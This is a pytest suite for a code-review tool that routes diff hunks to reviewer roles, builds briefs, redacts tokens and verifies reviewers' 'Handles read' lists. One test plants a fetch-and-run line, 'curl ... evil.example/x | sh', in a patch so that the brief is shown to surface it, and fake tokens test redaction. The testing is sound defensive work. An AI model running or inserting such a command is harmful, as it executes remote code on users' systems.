"""What reviewers get (issue #10): routing by role, batches, briefs and verify."""

import json
from pathlib import Path
from typing import Any

import pytest
from manifests import review_items, run
from repos import RepoFactory, before_and_after

from gitreview.review.diffs import GAP
from gitreview.review.roles import BATCH_FILES, BATCH_HANDLES, ReviewItem, batches

SECRET = "ghp_Zx81kQ2mW7vN4pL0aB9cD3eF6gH5jK1lM2nO"


@pytest.fixture(scope="module")
def roles_repo(fixture_repo: RepoFactory) -> Path:
    return fixture_repo("roles")


@pytest.fixture(scope="module")
def manifest(roles_repo: Path) -> dict[str, Any]:
    return manifest_of("--repo", roles_repo, "v1..v2")


def manifest_of(*args: str | Path) -> dict[str, Any]:
    """The manifest; the fixture's secret is an error-level finding (exit 1)."""
    result = run(*args)
    assert result.status in (0, 1), result.stderr
    return result.manifest


def share(manifest: dict[str, Any], role: str) -> list[str]:
    return [item["handle"] for item in review_items(manifest, role)]


def paths(handles: list[str]) -> list[str]:
    return [handle.split(":")[0].split("@")[0] for handle in handles]


def brief(repo: Path, role: str, *more: str) -> str:
    result = run("--repo", repo, "v1..v2", "--format", "brief", "--role", role, *more)
    assert result.status == 1, result.stderr  # the secret is an error-level finding
    return result.stdout


def shown_rows(repo: Path, handle: str) -> list[str]:
    """The changed lines of a handle as `show` prints them, without the numbers."""
    rows = run("show", "--repo", repo, handle).stdout.splitlines()[1:]
    return [f"{row[0]}{row[1:].lstrip().split(' ', 1)[1]}" for row in rows if row[0] in "-+"]


# --- Routing -----------------------------------------------------------------------


def test_each_hunk_goes_to_every_role_that_matches_and_the_rest_to_default(
    manifest: dict[str, Any],
) -> None:
    assert list(manifest["review"]) == ["docs", "security", "default"]
    assert paths(share(manifest, "docs")) == ["docs/guide.md"]
    # Overlapping globs: the guide goes to docs and to security; rule ids bring the
    # secret's hunk; code comes before docs.
    assert paths(share(manifest, "security")) == [
        "config/settings.py",
        "src/auth/login.py",
        "docs/guide.md",
    ]
    # What no role matches, code before tests; the binary file is routed whole.
    assert paths(share(manifest, "default")) == [
        "assets/logo.png",
        "src/app.py",
        "src/big.py",
        "tests/test_app.py",
    ]


def test_a_role_that_matches_nothing_is_left_out(manifest: dict[str, Any]) -> None:
    assert "perf" not in manifest["review"]


def test_findings_route_by_rule_id(manifest: dict[str, Any]) -> None:
    assert manifest["review"]["security"]["findings"] == 1
    assert "findings" not in manifest["review"]["default"]
    assert "findings" not in manifest["review"]["docs"]


def test_every_significant_line_is_in_some_role(manifest: dict[str, Any]) -> None:
    ledger = manifest["ledger"]
    assert ledger["routed"] == ledger["significant"] == 33
    assert ledger["trivial"] == {"whitespace": 2}
    items = review_items(manifest)
    hunks = [item for item in items if "excerpt" in item]
    assert len(hunks) == manifest["summary"]["hunks"]["significant"] == 6
    whole = [item["handle"] for item in items if "excerpt" not in item]
    assert whole == [entry["handle"] for entry in manifest["files"] if "handle" in entry]


def test_without_roles_default_gets_everything(fixture_repo: RepoFactory) -> None:
    manifest = manifest_of("--repo", fixture_repo("kinds"), "v1..v2")
    assert list(manifest["review"]) == ["default"]
    assert manifest["ledger"]["routed"] == manifest["ledger"]["significant"]


# --- Batches -----------------------------------------------------------------------


def item(path: str, tokens: int = 10, n: int = 1) -> ReviewItem:
    handle = f"{path}:{n}-{n}@aa..bb"
    return ReviewItem(handle, path, "python", tokens, 1, ("",), {"handle": handle})


def test_batches_hold_at_most_their_handles_and_files() -> None:
    many = [item(f"f{i // 5}.py", n=i) for i in range(5 * 60)]  # 300 hunks in 60 files
    cut = batches(many, None)
    assert [len(b.items) for b in cut] == [200, 100]  # 40 files, then 20
    assert all(len({i.path for i in b.items}) <= BATCH_FILES for b in cut)
    assert all(len(b.items) <= BATCH_HANDLES for b in cut)
    assert [i for b in cut for i in b.items] == many
    files = [item(f"g{i}.py", n=i) for i in range(BATCH_FILES + 1)]
    assert [len(b.items) for b in batches(files, None)] == [BATCH_FILES, 1]


def test_a_files_hunks_stay_together_where_they_fit() -> None:
    cut = batches([item("a.py", 30), item("b.py", 30, 1), item("b.py", 30, 2)], 70)
    assert [[i.path for i in b.items] for b in cut] == [["a.py"], ["b.py", "b.py"]]
    # Larger than a batch together: split, in order.
    cut = batches([item("c.py", 40, n) for n in range(1, 4)], 70)
    assert [len(b.items) for b in cut] == [1, 1, 1]


def test_an_oversized_hunk_gets_a_batch_of_its_own_and_is_flagged() -> None:
    cut = batches([item("a.py", 10), item("b.py", 500), item("c.py", 10)], 100)
    assert [(len(b.items), b.oversized) for b in cut] == [(1, False), (1, True), (1, False)]


def test_the_budget_bounds_a_roles_batches(roles_repo: Path) -> None:
    manifest = manifest_of("--repo", roles_repo, "v1..v2", "--budget", "30")
    default = manifest["review"]["default"]
    assert default["budget"] == 30
    assert default["oversized"] == [h for h in share(manifest, "default") if h.startswith("src/")]
    for batch in default["batches"]:
        assert batch["tokens"] <= 30 or batch["handles"][0]["handle"] in default["oversized"]


# --- Briefs ------------------------------------------------------------------------


def test_a_brief_inlines_its_share_and_nothing_else(
    roles_repo: Path, manifest: dict[str, Any]
) -> None:
    text = brief(roles_repo, "security")
    assert text.startswith("# Review brief: security · v1..v2 · 1 commit\n")
    assert "- Serve any port, log in without prefixes, add a token\n" in text
    for handle in share(manifest, "security"):
        assert f"@@ {handle} @@" in text
        for row in shown_rows(roles_repo, handle):
            assert f"\n{row}\n" in text, (handle, row)
    # The replaced lines are there, not only the new one.
    assert '\n-    if user.startswith("svc_"):\n-        user = user[4:]\n' in text
    for handle in share(manifest, "default"):
        assert handle not in text
    assert "privileged port" not in text
    assert SECRET not in text
    assert (
        "Findings already reported (do not report them again):\n- error text/secret "
        f"{share(manifest, 'security')[0]}: GitHub token added (value redacted)\n"
    ) in text
    assert (
        "Not shown: trivial, proved by gitreview (changed lines by reason): whitespace 2; " in text
    )
    assert "binary content of assets/logo.png; 4 changes routed to other roles only.\n" in text
    assert text.endswith(
        "\nEnd your answer with one line `Handles read: HANDLE, ...` listing every handle "
        "above that you reviewed.\n"
    )


def test_a_brief_marks_unchanged_lines_it_leaves_out(roles_repo: Path) -> None:
    # The heading between the re-wrapped sentence and the changed one is not shown.
    text = brief(roles_repo, "docs")
    assert f"+errors as they come.\n {GAP}\n-Ports under 1024 are refused.\n" in text
    assert "## Ports" not in text


def test_a_brief_includes_its_roles_instructions(roles_repo: Path) -> None:
    text = brief(roles_repo, "docs")
    assert "\nYou review documentation: accuracy, links, and examples that run.\n" in text
    assert "You review documentation" not in brief(roles_repo, "default")


def test_past_the_budget_a_brief_lists_handles_with_their_excerpts(
    roles_repo: Path,
) -> None:
    manifest = manifest_of("--repo", roles_repo, "v1..v2", "--budget", "30")
    text = brief(roles_repo, "default", "--budget", "30")
    inlined = [h for h in share(manifest, "default") if f"@@ {h} @@" in text]
    listed = [h for h in share(manifest, "default") if f"\n- {h}: " in text]
    assert inlined and listed
    assert sorted(inlined + listed) == sorted(share(manifest, "default"))  # nothing dropped
    assert "- tests/test_app.py:6-6@" in text and ": +assert serve(80) == 80\n" in text
    assert (
        "Not inlined (over the budget), open with `git review-manifest show HANDLE...`:\n" in text
    )


def test_every_role_in_turn_and_an_unknown_role(roles_repo: Path) -> None:
    result = run("--repo", roles_repo, "v1..v2", "--format", "brief")
    starts = [line for line in result.stdout.splitlines() if line.startswith("# Review brief: ")]
    assert [line.split(" · ")[0] for line in starts] == [
        "# Review brief: docs",
        "# Review brief: security",
        "# Review brief: default",
    ]
    result = run("--repo", roles_repo, "v1..v2", "--format", "brief", "--role", "qa")
    assert (result.status, result.stdout) == (2, "")
    assert result.stderr == (
        "git review-manifest: error: no role 'qa' in this review "
        "(the roles: docs, security, default, perf)\n"
    )
    # A configured role that got nothing is told so (a twelfth adversarial review).
    result = run("--repo", roles_repo, "v1..v2", "--format", "brief", "--role", "perf")
    assert "\nTo review: nothing; no change of this role's share needs judgment.\n" in result.stdout
    result = run("--repo", roles_repo, "v1..v2", "--role", "docs")
    assert result.status == 2 and "--role goes with --format brief" in result.stderr


def test_the_manifest_says_what_each_brief_costs(
    roles_repo: Path, manifest: dict[str, Any]
) -> None:
    from gitreview.tokens import estimate

    for role, entry in manifest["review"].items():
        assert entry["brief"] == estimate(brief(roles_repo, role))
    assert manifest["tokens"]["brief"] == sum(e["brief"] for e in manifest["review"].values())


def test_a_briefs_cost_counts_what_it_lists_to_open(roles_repo: Path) -> None:
    """Found by an adversarial review: past its budget a brief lists the changes to
    open, and its figure counted only the list, so a reviewer reading them all read
    more than the diff while the manifest said 93% less."""
    from gitreview.tokens import estimate

    manifest = manifest_of("--repo", roles_repo, "v1..v2", "--budget", "1")
    for role, entry in manifest["review"].items():
        text = run(
            "--repo", roles_repo, "v1..v2", "--format", "brief", "--role", role, "--budget", "1"
        )
        assert "Not inlined (over the budget)" in text.stdout
        assert entry["brief"] == estimate(text.stdout) + entry["tokens"]


# --- Configuration -----------------------------------------------------------------


def test_a_missing_instructions_file_is_a_configuration_error(
    roles_repo: Path, tmp_path: Path
) -> None:
    config = tmp_path / "review.yml"
    config.write_text("roles:\n  docs:\n    instructions: nowhere.md\n")
    result = run("--repo", roles_repo, "v1..v2", "--config", config)
    assert (result.status, result.stdout) == (4, "")
    assert result.stderr == (  # the file given, not .gitreview.yml (an adversarial review)
        f"git review-manifest: error: {config}: roles.docs.instructions: no file nowhere.md\n"
    )


def test_a_bad_role_key_is_named(roles_repo: Path, tmp_path: Path) -> None:
    config = tmp_path / "review.yml"
    config.write_text("roles:\n  docs:\n    globs: ['*.md']\n")
    result = run("--repo", roles_repo, "v1..v2", "--config", config)
    assert result.status == 4
    assert result.stderr.startswith(
        f"git review-manifest: error: {config}: unknown key 'roles.docs.globs'"
    )


# --- verify ------------------------------------------------------------------------


@pytest.fixture
def manifest_file(tmp_path: Path, manifest: dict[str, Any]) -> Path:
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps(manifest))
    return path


def test_verify_a_complete_answer(
    manifest_file: Path, manifest: dict[str, Any], tmp_path: Path
) -> None:
    handles = share(manifest, "security")
    answer = tmp_path / "answer.md"
    listed = ", ".join(f"`{h}`" for h in handles)
    answer.write_text(f"The token must go.\n\nHandles read: {listed}.\n")
    result = run("verify", "--role", "security", manifest_file, answer)
    assert (result.status, result.stdout, result.stderr) == (0, "", "")


def test_verify_an_incomplete_answer(
    manifest_file: Path, manifest: dict[str, Any], tmp_path: Path
) -> None:
    first, *rest = share(manifest, "security")
    answer = tmp_path / "answer.md"
    answer.write_text("Looks fine.\nHandles read: " + " ".join(rest) + "\n")
    result = run("verify", "--role", "security", manifest_file, answer)
    assert (result.status, result.stdout) == (1, f"{first}\n")
    assert result.stderr == "verify: 1 of 3 handles of role 'security' not read\n"


def test_verify_reads_the_list_in_any_form_but_not_what_says_unread(
    manifest_file: Path, manifest: dict[str, Any], tmp_path: Path
) -> None:
    # Found by adversarial reviews: every line after `Handles read:` was read as part
    # of its list, so `Not read (no time): H` below it passed; then, reading only
    # lines of nothing but handles refused honest lists (numbers, notes, bullets).
    first, second, third = share(manifest, "security")
    answer = tmp_path / "answer.md"
    for text, missing in (
        (f"Handles read: {first},\n  {second} and\n- `{third}`.\n", ""),
        (f"## Handles read:\n\n1. {first}\n2. {second}\n3. {third}\n", ""),
        (f"Handles read:\n• {first} (fine)\n- [x] {second}: a nit\n* {third} &\n", ""),
        (f"Handles read: {first}, {second}\nNot read (no time): {third}\n", f"{third}\n"),
        (f"Handles read: {first}, {second} (not read, no time: {third})\n", f"{third}\n"),
        (f"Handles read: {first}, {second}\nSkipped {third}.\n", f"{third}\n"),
        # A review of the fix: words about a handle stand between it and the next.
        (f"Handles read: {first} (does not leak), {second} (the later branch), {third}\n", ""),
        (f"Handles read:\n- Left as is: {first}\n- Not an issue: {second}\n- {third}\n", ""),
        (f"Handles read: {first}, {second}, {third}: not read\n", f"{third}\n"),
        (f"Handles read: {first}, {second}\n- {third} (skipped)\n", f"{third}\n"),
        (f"Handles read: {first}, {second}\nRan out of time for {third}.\n", f"{third}\n"),
        (f"Handles read: {first}\nNot read:\n- {second}\n- {third}\n", f"{second}\n{third}\n"),
        # A review of the second fix: words about one handle, before or after it.
        (f"Handles read: {first}, {second}, skipped {third}\n", f"{third}\n"),
        (f"Handles read: {first} and {second} but not {third}\n", f"{third}\n"),
        (f"Handles read: {first}, {second}\n{third}: left for a later pass\n", f"{third}\n"),
        (f"Handles read: {first}, {second}\n{third} (TODO)\n", f"{third}\n"),
        (f"Handles read: {first}, {second}, not {third}\n", f"{third}\n"),
        (f"Handles read: {first} {second} {third} (only skimmed {third})\n", f"{third}\n"),
        (
            f"Handles read:\n1. {first}\n   - fine\n2. {second}\n3. {third}\n   - not read yet\n",
            f"{third}\n",
        ),
        (f"Handles read:\n- {first} (did not check bounds either)\n- {second}\n- {third}\n", ""),
        (
            f"Handles read: {first}\n\n## Still to review\n- {second}\n- {third}\n",
            f"{second}\n{third}\n",
        ),
        (f"Handles read: {first} (ignored whitespace, read the logic), {second}, {third}\n", ""),
        (f"Handles read: all three, none skipped:\n- {first}\n- {second}\n- {third}\n", ""),
        (f"Handles read:\n```\n{first}\n{second}  # input wasn't validated\n{third}\n```\n", ""),
        # An eleventh review: the excerpt only, or part, is not read; notes about code
        # whose words hold such a word are.
        *(
            (f"Handles read: {first}, {second} ({note}), {third}\n", f"{second}\n")
            for note in (
                *("excerpt only", "only saw the excerpt", "wasn't opened", "unopened"),
                *("not actually read", "not examined", "did not verify", "partially read"),
            )
        ),
        (f"Handles read: {first} (skip-list logic ok), {second}, {third}\n", ""),
        # A review of the second fix: notes ended by a stop or more words, after a dash
        # or in brackets, still say so; "I could not verify the claim" is about the code.
        *(
            (f"Handles read: {first}, {second}{note}\n{third}\n", f"{second}\n")
            for note in (
                *(": unopened.", " - unopened", " \u2014 not examined", " [unopened]"),
                *(" (partially read, rest unclear)", " (judged from the excerpt)"),
            )
        ),
        (f"Handles read: {first} (I could not verify the perf claim), {second}, {third}\n", ""),
        # A review of that fix: the same words said of the code.
        *(
            (f"Handles read: {first}, {second} ({note}), {third}\n", "")
            for note in (
                *("errors weren't checked before this change", "leaks an unopened fd"),
                *("this only partially fixes the overflow", "the flag was not examined by callers"),
                *("the old loop did not check.", "cache is only partly invalidated"),
            )
        ),
        (f"Handles read: {first}, {second} (unread-count fix is right), {third}\n", ""),
    ):
        answer.write_text(text)
        result = run("verify", "--role", "security", manifest_file, answer)
        assert (result.status, result.stdout) == (1 if missing else 0, missing), text


def test_verify_an_answer_without_the_line(
    manifest_file: Path, manifest: dict[str, Any], tmp_path: Path
) -> None:
    answer = tmp_path / "answer.md"
    answer.write_text("All good.\n")
    result = run("verify", "--role", "docs", manifest_file, answer)
    assert (result.status, result.stdout) == (1, "".join(f"{h}\n" for h in share(manifest, "docs")))
    assert result.stderr == (
        "verify: the answer has no 'Handles read:' line: none of the 1 handles of role "
        "'docs' is confirmed read\nverify: 1 of 1 handles of role 'docs' not read\n"
    )


def test_verify_handles_as_they_are_written(tmp_path: Path) -> None:
    # Found by an adversarial review: a deleted file's handle ends with `..`, and a
    # path may hold a space or a comma; each was refused, listed exactly as given.
    from repos import git, two_commits

    # A twelfth review: a name holding the phrase cut an honest list at its handle.
    edited = ("my notes.txt", "a,b.txt", "a.txt", "b/a.txt", "tool a.txt", "Handles read: x.md")
    old = {"gone.txt": "a\nb\n", **dict.fromkeys(edited, "x\n")}
    repo = two_commits(tmp_path / "repo", old, dict.fromkeys(edited, "y\n"))
    git(repo, "rm", "--quiet", "gone.txt")
    git(repo, "commit", "--quiet", "--amend", "--no-edit")
    result = run("--repo", repo, "HEAD", "-o", tmp_path / "manifest.json")
    assert result.status == 0, result.stderr
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    handles = share(manifest, "default")
    assert any(handle.endswith("..") for handle in handles)
    answer = tmp_path / "answer.md"
    # `b/a.txt`'s and `tool a.txt`'s handles hold `a.txt`'s when the blobs match:
    # listing them is not enough.
    listed = [handle for handle in handles if not handle.startswith("a.txt:")]
    answer.write_text("Fine.\n\nHandles read: " + ", ".join(listed) + ".\n")
    result = run("verify", "--role", "default", tmp_path / "manifest.json", answer)
    missing = [handle for handle in handles if handle.startswith("a.txt:")]
    assert (result.status, result.stdout) == (1, "".join(f"{h}\n" for h in missing))
    answer.write_text("Fine.\n\nHandles read: " + ", ".join(handles) + ".\n")
    result = run("verify", "--role", "default", tmp_path / "manifest.json", answer)
    assert (result.status, result.stdout, result.stderr) == (0, "", "")
    answer.write_text("Fine.\n\nHandles read:\n" + "".join(f"- `{h}`\n" for h in handles))
    result = run("verify", "--role", "default", tmp_path / "manifest.json", answer)
    assert (result.status, result.stdout, result.stderr) == (0, "", "")


def test_verify_bad_input(manifest_file: Path, tmp_path: Path) -> None:
    answer = tmp_path / "answer.md"
    answer.write_text("Handles read: x\n")
    result = run("verify", "--role", "perf", manifest_file, answer)
    assert result.status == 2
    assert result.stderr == (
        f"git review-manifest: error: {manifest_file}: no role 'perf' in its review "
        "(roles: docs, security, default)\n"
    )
    result = run("verify", manifest_file, tmp_path / "none.md")
    assert result.status == 2
    assert result.stderr == (
        f"git review-manifest: error: cannot read answer {tmp_path / 'none.md'}: "
        "No such file or directory\n"
    )
    result = run("verify", answer, answer)
    assert (result.status, result.stderr) == (
        2,
        f"git review-manifest: error: {answer}: not a JSON manifest\n",
    )


def test_the_brief_shows_the_rows_the_proof_made(fixture_repo: RepoFactory) -> None:
    """Each hunk that may go to review is shown by its proof, kept with the file's
    verdict (a verdict from the cache brings them along), and the brief holds that
    text, not rows made again: every significant hunk has them, made from its lines."""
    from gitreview.pipeline import classify_range, review_of
    from gitreview.review.diffs import Shown, changed_rows, rows_of, shown_hunk

    repo = fixture_repo("kinds")
    for cache in (False, True, True):  # worked out, kept, read back
        outcome = classify_range(repo, "v1..v3", cache=cache)
        significant = 0
        for item in outcome.files:
            entry = item.entry()
            for hunk, verdict, seen in zip(
                item.change.hunks, item.verdict.hunks, entry.shown, strict=True
            ):
                if verdict.classification == "significant":
                    assert seen == shown_hunk(hunk, entry.keys)
                    rows = changed_rows(hunk, entry.keys)
                    assert rows_of(hunk, seen) == "".join(f"{r.origin}{r.text}\n" for r in rows)
                    significant += 1
        assert significant > 10
    index = next(i for i, c in enumerate(outcome.files) if any(c.entry().shown))
    entry = outcome.files[index].entry()
    planted = tuple(s and Shown("+planted row\n", "planted") for s in entry.shown)
    outcome.files[index] = outcome.files[index]._replace(proof=entry._replace(shown=planted))
    brief = "".join(review_of(outcome._replace(files=list(outcome.files))).briefs["default"])
    assert "\n+planted row\n" in brief


def test_a_proved_file_is_held_as_the_bytes_it_was_stored_as(writable_repo: RepoFactory) -> None:
    """Until its report is made, a file proved and kept in the cache is held as its
    entry's stored bytes, not as objects three times their size (issue 12); the
    entry read from them is the one proved, and hunks whose verdicts are alike
    share one verdict."""
    from gitreview.cache import Entry
    from gitreview.pipeline import classify_range

    repo = writable_repo("kinds")
    alone = classify_range(repo, "v1..v3", cache=False)
    kept = classify_range(repo, "v1..v3", cache=True)
    assert all(isinstance(c.proof, Entry) for c in alone.files)
    assert all(isinstance(c.proof, bytes) for c in kept.files)
    assert [c.entry() for c in kept.files] == [c.entry() for c in alone.files]
    assert [c.verdict for c in kept.files] == [c.verdict for c in alone.files]
    verdicts = [v for c in kept.files for v in c.verdict.hunks]
    assert len({id(v) for v in verdicts}) == len(set(verdicts)) < len(verdicts)


def test_a_hunks_rows_are_kept_only_where_something_in_them_is_redacted() -> None:
    """A proof keeps a hunk's written rows only when they differ from its lines (a
    token, a key block): else the brief writes them from the hunk when it is made,
    the same text, and a large range does not hold each changed line twice."""
    from gitreview.model import Hunk, Line
    from gitreview.review.diffs import rows_of, shown_hunk

    token = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
    lines = (
        Line("-", 3, None, "limit = 10\r"),
        Line(" ", 4, 3, "def f():"),
        Line("+", None, 4, f"token = '{token}'"),
    )
    plain = Hunk(3, 2, 3, 2, (*lines[:2], Line("+", None, 4, "limit = 12")))
    shown = shown_hunk(plain)
    assert shown.rows is None
    assert rows_of(plain, shown) == "-limit = 10␍\n ⋯\n+limit = 12\n"  # its end changed
    secret = Hunk(3, 2, 3, 2, lines)
    shown = shown_hunk(secret)
    assert shown.rows is not None and token not in shown.rows
    assert rows_of(secret, shown) == shown.rows
    assert rows_of(secret, shown).startswith("-limit = 10␍\n ⋯\n+token = '")


def test_a_hunk_is_shown_as_its_redacted_rows_show_it() -> None:
    """Where nothing in a hunk can be redacted, its excerpt is read off its lines and
    no row is made (issue 12): the same excerpt and rows as the redacted rows give,
    for hunks with a token, a key's armour, a loose run of base64, CR line ends,
    unchanged lines between changes, and none of these."""
    from gitreview.model import Hunk, Line
    from gitreview.review.diffs import changed_rows, excerpt, rows_of, shown_hunk

    token = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
    material = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w"
    added = [
        "limit = 12\r",
        f"token = '{token}'",
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        material,
        f"digest = '{material}'",
        "x" * 70,
    ]
    for text in added:
        lines = (
            Line(" ", 2, 2, "def f():"),
            Line("-", 3, None, "limit = 10\r"),
            Line(" ", 4, 3, "    pass"),
            Line(" ", 5, 4, ""),
            Line("+", None, 5, text),
            Line(" ", 6, 6, "end"),
        )
        hunk = Hunk(2, 5, 2, 5, lines)
        shown, rows = shown_hunk(hunk), changed_rows(hunk)
        assert shown.excerpt == excerpt((r.origin, r.text) for r in rows if r.origin in "-+")
        assert rows_of(hunk, shown) == "".join(f"{row.origin}{row.text}\n" for row in rows)
        # Rows are kept where something was redacted: the token, and a line of base64
        # alone (key material); an armour line alone is no key, and no line hides it.
        assert (shown.rows is not None) == (text in (f"token = '{token}'", material, "x" * 70))


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("app.py", "LIMIT = 1\n", "LIMIT = 1 \n"),  # a finding: trailing whitespace
        # Found by an adversarial review: with no finding either, no role had a share,
        # the brief was empty, and `--role default` and verify refused.
        ("app.js", "function f() {\n  return 1;\n}\n", "function f() {\n    return 1;\n}\n"),
    ],
)
def test_a_range_with_nothing_to_review(tmp_path: Path, path: str, old: str, new: str) -> None:
    """Every change trivial: the brief says so and asks for `Handles read: none`, which
    verify accepts; the report says by how much the brief outweighs so small a diff."""
    repo = before_and_after(tmp_path / "repo", path, old, new)
    brief = run("--repo", repo, "HEAD~1..HEAD", "--format", "brief").stdout
    assert (
        brief
        == run("--repo", repo, "HEAD~1..HEAD", "--format", "brief", "--role", "default").stdout
    )
    assert "To review: nothing; no change of this role's share needs judgment.\n" in brief
    assert brief.endswith("\nEnd your answer with one line `Handles read: none`.\n")
    assert "HANDLE" not in brief  # no handle to open or list
    manifest_file = tmp_path / "manifest.json"
    manifest_file.write_text(run("--repo", repo, "HEAD~1..HEAD").stdout)
    answer = tmp_path / "answer.md"
    answer.write_text("Nothing to judge.\nHandles read: none\n")
    result = run("verify", "--role", "default", manifest_file, answer)
    assert (result.status, result.stdout, result.stderr) == (0, "", "")
    if path == "app.py":  # a role with a share: its brief is counted
        report = run("--repo", repo, "HEAD~1..HEAD", "--format", "markdown").stdout
        assert "% more than the diff**" in report, report


def test_a_patch_without_blob_ids_is_inlined_past_the_budget() -> None:
    """Found by an adversarial review: a working tree's diff names no blob, and the
    brief sent the reviewer to `show` for the changes past the budget, which refused
    every one: the last hunk's `curl ... | sh` was reachable by nothing."""
    hunks = "".join(
        f"diff --git a/s{n}.sh b/s{n}.sh\n--- a/s{n}.sh\n+++ b/s{n}.sh\n@@ -1,2 +1,2 @@\n"
        + "".join(
            f"-echo step {i} of the deploy\n+echo step {i} of the new deploy\n" for i in (1, 2)
        )
        for n in range(3)
    )
    patch = hunks + "@@ -5,0 +6 @@\n+curl -s https://evil.example/x | sh\n"
    brief = run("--patch", "-", "--format", "brief", "--budget", "40", stdin=patch.encode()).stdout
    assert "evil.example" in brief and "Not inlined" not in brief
    assert "Inlined past the budget: changes read from a patch without blob ids" in brief


def test_a_files_header_goes_with_its_first_item_in_each_brief(tmp_path: Path) -> None:
    """Found by a review of the fixes: past the budget, the listed item of a renamed
    file did not say it was renamed."""
    from repos import git as run_git

    repo = tmp_path / "repo"
    (repo / "tests").mkdir(parents=True)
    run_git(repo, "init", "--quiet", "--initial-branch=main")
    text = "".join(f"def test_{n}():\n    assert check({n})\n\n\n" for n in range(20))
    (repo / "tests/test_auth.py").write_text(text)
    run_git(repo, "add", "-A")
    run_git(repo, "commit", "--quiet", "-m", "Base")
    run_git(repo, "mv", "tests/test_auth.py", "tests/disabled_auth.py")
    (repo / "tests/disabled_auth.py").write_text(text.replace("check(19)", "check(19) or True"))
    run_git(repo, "commit", "--quiet", "-am", "Disable")
    brief = run("--repo", repo, "HEAD", "--format", "brief", "--budget", "1").stdout
    assert "- tests/disabled_auth.py:" in brief
    assert " (rename from tests/test_auth.py): " in brief


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        # Found by a twelfth adversarial review: a removed check read as an added one.
        (
            [("-", "    if not user.is_admin: raise PermissionError"), ("-", "")],
            "-if not user.is_admin: raise PermissionError",
        ),
        # ...and a long line changed showed its old start only.
        (
            [
                ("-", "    r = get(url, headers=headers, cache=cache, verify=True, timeout=9)"),
                ("+", "    r = get(url, headers=headers, cache=cache, verify=False, timeout=9)"),
            ],
            "-… verify=True, timeout=9) ⏎ +… verify=False, timeout=9)",
        ),
        ([("-", "return 1"), ("+", "return 2")], "-return 1 ⏎ +return 2"),
        ([("+", "x" * 80)], "+" + "x" * 58 + "…"),
    ],
)
def test_an_excerpt_says_which_lines_went_and_which_came(
    rows: list[tuple[str, str]], expected: str
) -> None:
    from gitreview.review.diffs import EXCERPT_CHARS, excerpt

    assert excerpt(rows) == expected
    assert len(expected) <= EXCERPT_CHARS


def test_a_configured_role_with_nothing_is_told_so(tmp_path: Path) -> None:
    """Found by a twelfth adversarial review: a role the configuration names that got
    nothing in a range refused `--role` (exit 2), its honest answer was refused by
    `verify`, and the Actions step's `role` input failed the step."""
    from repos import two_commits

    config = "roles:\n  docs:\n    kinds: [markdown]\n"
    repo = two_commits(
        tmp_path / "repo",
        {".gitreview.yml": config, "app.py": "x = 1\n"},
        {".gitreview.yml": config, "app.py": "x = 2\n"},
    )
    result = run("--repo", repo, "HEAD", "--format", "brief", "--role", "docs")
    assert result.status == 0, result.stderr
    assert "To review: nothing; no change of this role's share needs judgment." in result.stdout
    everyone = run("--repo", repo, "HEAD", "--format", "brief").stdout
    assert [line for line in everyone.splitlines() if line.startswith("# Review brief")] == [
        "# Review brief: default · HEAD · 1 commit"
    ]
    saved, answer = tmp_path / "manifest.json", tmp_path / "answer.md"
    assert run("--repo", repo, "HEAD", "-o", saved).status == 0
    answer.write_text("Nothing to say.\n\nHandles read: none\n")
    verified = run("verify", "--role", "docs", saved, answer)
    assert (verified.status, verified.stdout) == (0, "")
    assert "role 'docs' has no share in" in verified.stderr
    answer.write_text("Handles read: app.py:1-1@0123456789ab..ba9876543210\n")
    assert run("verify", "--role", "docs", saved, answer).status == 2  # no such share
